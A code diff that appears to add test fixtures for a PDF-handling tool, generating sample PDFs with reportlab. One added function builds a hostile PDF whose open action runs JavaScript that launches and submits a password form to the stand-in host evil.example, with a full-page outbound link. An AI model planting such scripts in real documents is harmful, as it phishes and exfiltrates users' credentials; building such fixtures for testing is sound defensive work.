@@ -5,6 +5,7 @@ from __future__ import annotations
 from pathlib import Path
 
 from reportlab.lib.pagesizes import A4
+from reportlab.pdfbase.pdfdoc import PDFDictionary, PDFName, PDFString
 from reportlab.pdfgen.canvas import Canvas
 
 POLICY = (
@@ -40,4 +41,43 @@ def not_a_pdf(folder: Path) -> Path:
 def broken(folder: Path) -> Path:
     path = folder / "broken.pdf"
     path.write_bytes(travel_policy(folder).read_bytes()[:700])
+    return path
+
+
+def acting(folder: Path) -> Path:
+    """A PDF that runs a script when it is opened, and whose whole page is a link out."""
+    path = folder / "parcel office.pdf"
+    canvas = Canvas(str(path), pagesize=A4)
+    canvas.drawString(72, 745, "The parcel office opens at nine in the morning.")
+    canvas.linkURL("https://evil.example/link", (0, 0, 595, 842), relative=0)
+    canvas.acroForm.textfield(name="password", x=72, y=600, width=200, height=20)
+    catalog = canvas._doc.Catalog
+    script = "app.launchURL('https://evil.example/js'); this.submitForm('https://evil.example/form');"
+    catalog.OpenAction = PDFDictionary({"S": PDFName("JavaScript"), "JS": PDFString(script)})
+    canvas.showPage()
+    canvas.save()
+    return path
+
+
+def manual(folder: Path, name: str, chapters: tuple[tuple[str, str], ...], front_pages: int = 0) -> Path:
+    """Several pages of running text; one sentence a page is that chapter's own.
+
+    front_pages: so many are numbered i, ii, …; then it is a booklet without headings and with little on each page.
+    """
+    path = folder / f"{name}.pdf"
+    canvas = Canvas(str(path), pagesize=A4)
+    filler = "This chapter is read by everybody who starts to work here, and it is looked through once a year."
+    for number, (heading, sentence) in enumerate(chapters):
+        if front_pages:
+            canvas.addPageLabel(0, "ROMAN_LOWER", 1)
+            canvas.addPageLabel(front_pages, "ARABIC", 1)
+        else:
+            canvas.setFont("Helvetica-Bold", 16)
+            canvas.drawString(72, 780, heading)
+        canvas.setFont("Helvetica", 11)
+        for line in range(3 if front_pages else 14):
+            canvas.drawString(72, 745 - 24 * line, sentence if line == 1 else filler)
+        canvas.drawCentredString(297, 30, str(number + 1))
+        canvas.showPage()
+    canvas.save()
     return path
